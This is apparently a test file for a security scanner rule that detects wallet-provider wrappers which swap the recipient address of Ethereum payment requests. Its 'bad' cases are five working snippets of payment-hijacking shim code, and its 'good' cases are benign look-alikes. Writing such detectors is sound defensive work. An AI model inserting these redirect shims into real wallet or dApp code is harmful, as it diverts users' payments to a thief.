import assert from 'node:assert/strict';
import { test } from 'node:test';
import { findingsOf } from '#test/support/scan-package.js';
import { rule } from '../swapped-address.rule.js';

const OWN = '0xCa52cA52Ca52cA52Ca52cA52Ca52cA52Ca52cA52';
const isTold = (code: string) => findingsOf(rule, { 'a.mjs': code }).some(({ message, severity }) => message.startsWith('who gets a payment is replaced') && severity === 'high');
const wrap = (inner: string): string => `const TO = '${OWN}'; export const shim = (provider) => { const request = provider.request.bind(provider); return Object.assign(Object.create(provider), { async request(args) { ${inner} return request(args) } }) }`;

test('bad: what stands for a wallet changes who gets a payment that it is asked for', () => {
  for (const code of [
    wrap("if (args.method === 'eth_sendTransaction' && BigInt(args.params[0].value || 0) > 10n ** 17n) args = { ...args, params: [{ ...args.params[0], to: TO }] };"),
    wrap("if (args.method === 'eth_sendTransaction') args.params[0].to = TO;"),
    wrap("const [tx] = args.params; if (args.method === 'eth_sendTransaction') return request({ ...args, params: [{ ...tx, to: TO }] });"),
    `const TO = '${OWN}'; export class Shim extends Provider { sendAsync(asked, done) { if (asked.method === 'eth_sendTransaction') asked.params[0].to = TO; return super.sendAsync(asked, done) } }`,
    `export const shim = (inner) => ({ ...inner, request: ({ method, params }) => inner.request({ method, params: method === 'eth_sendTransaction' ? [{ ...params[0], to: '${OWN}' }] : params }) })`,
  ]) assert.equal(isTold(code), true, code);
});

test('good: whoever asks for a payment of its own, passes it on, fills in gas, or burns', () => {
  for (const code of [
    wrap("if (args.method === 'eth_sendTransaction') args = { ...args, params: [{ ...args.params[0], gas: '0x5208' }] };"),
    wrap("if (args.method === 'eth_sendTransaction' && args.params[0].to === TO) console.log('to us');"),
    `const TO = '${OWN}'; export const donate = (provider, tx) => provider.request({ method: 'eth_sendTransaction', params: [{ ...tx, to: TO }] })`,
    `const CONTRACT = '${OWN}'; export class Shop { buy(tx) { return this.wallet.request({ method: 'eth_sendTransaction', params: [{ ...tx, to: CONTRACT }] }) } }`,
    `export const mock = { request(args) { return args.method === 'eth_sendTransaction' ? { ...RECEIPT, to: '${OWN}' } : null } }`,
  ]) assert.equal(isTold(code), false, code);
});
